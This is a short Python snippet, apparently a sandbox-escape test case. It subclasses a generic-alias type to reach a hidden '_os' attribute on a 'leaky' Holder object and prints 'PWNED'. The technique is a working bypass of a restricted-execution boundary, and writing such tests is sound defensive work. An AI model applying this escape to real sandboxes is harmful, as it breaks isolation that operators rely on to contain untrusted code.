# needs: leaky
from leaky import Holder
class Alias(type(list[int])):
    pass
print("PWNED", vars(Alias(Holder, ()))["_os"])
